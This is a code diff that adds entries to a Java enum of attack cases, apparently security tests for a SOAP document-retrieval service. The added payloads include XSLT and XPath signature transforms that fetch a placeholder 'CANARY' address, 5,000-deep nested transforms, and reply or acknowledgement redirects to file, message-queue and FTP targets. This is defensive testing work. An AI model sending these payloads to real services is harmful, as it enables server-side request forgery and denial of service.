@@ -44,12 +44,25 @@ enum Attack {
             m,
             "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\" soap:mustUnderstand=\"1\"><ds:SignedInfo>"
                     + "<ds:Reference URI=\"CANARY\"/>".repeat(10_000) + "</ds:SignedInfo></ds:Signature>")),
+    X27_A_STYLESHEET_TO_CARRY_OUT(m -> withHeader(m, transformed("http://www.w3.org/TR/1999/REC-xslt-19991116", 1))),
+    X27_A_PATH_TO_FOLLOW(m -> withHeader(m, transformed("http://www.w3.org/TR/1999/REC-xpath-19991116", 1))),
+    X27_TRANSFORMS_WITHIN_TRANSFORMS(
+            m -> withHeader(m, transformed("http://www.w3.org/TR/1999/REC-xslt-19991116", 5_000))),
     W02_ANOTHER_ACTION(m -> m.replaceFirst("(<wsa:Action[^>]*>)[^<]*", "$1urn:ihe:iti:2007:RetrieveDocumentSet")),
     W02_NO_ACTION(m -> m.replaceFirst("<wsa:Action.*?</wsa:Action>", "")),
     W03_A_REPLY_ELSEWHERE(m -> replyTo(m, "CANARY")),
     W04_A_FAULT_ELSEWHERE(m -> withHeader(m, "<wsa:FaultTo><wsa:Address>CANARY</wsa:Address></wsa:FaultTo>")),
+    W06_ACKNOWLEDGEMENTS_ELSEWHERE(m -> withHeader(
+            m,
+            "<r:AckRequested xmlns:r=\"http://docs.oasis-open.org/ws-rx/wsrm/200702\" soap:mustUnderstand=\"1\"><r:Identifier>urn:a</r:Identifier>"
+                    + "<r:AcksTo><wsa:Address>CANARY</wsa:Address></r:AcksTo></r:AckRequested>")),
+    W06_A_SEQUENCE_ACKNOWLEDGED_ELSEWHERE(
+            m -> m.replaceFirst(
+                    "(?s)<soap:Body>.*</soap:Body>",
+                    "<soap:Body><r:CreateSequence xmlns:r=\"http://docs.oasis-open.org/ws-rx/wsrm/200702\"><r:AcksTo><wsa:Address>CANARY</wsa:Address></r:AcksTo></r:CreateSequence></soap:Body>")),
     W07_A_REPLY_INTO_A_FILE(m -> replyTo(m, "file:///tmp/reply")),
     W07_A_REPLY_BY_MESSAGE_QUEUE(m -> replyTo(m, "jms:queue:reply")),
+    W07_A_REPLY_BY_FTP(m -> replyTo(m, "ftp://127.0.0.1/reply")),
     W09_TWO_ACTIONS(m -> withHeader(m, "<wsa:Action>urn:ihe:iti:2007:RetrieveDocumentSet</wsa:Action>")),
     W09_TWO_MESSAGE_IDS(m -> withHeader(m, "<wsa:MessageID>urn:uuid:0</wsa:MessageID>"));
 
@@ -100,6 +113,17 @@ enum Attack {
                         .collect(Collectors.joining()))
                 .map(form::formatted)
                 .collect(Collectors.joining(" "));
+    }
+
+    /** A signature whose one reference is to be transformed by {@code algorithm}, transforms within transforms. */
+    private static String transformed(String algorithm, int depth) {
+        return "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\" soap:mustUnderstand=\"1\"><ds:SignedInfo>"
+                + "<ds:Reference URI=\"\"><ds:Transforms>"
+                + ("<ds:Transform Algorithm=\"" + algorithm + "\">").repeat(depth)
+                + "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include"
+                + " href=\"CANARY\"/></xsl:stylesheet><ds:XPath>document('CANARY')//. | //.</ds:XPath>"
+                + "</ds:Transform>".repeat(depth)
+                + "</ds:Transforms></ds:Reference></ds:SignedInfo></ds:Signature>";
     }
 
     private static String replyTo(String message, String address) {
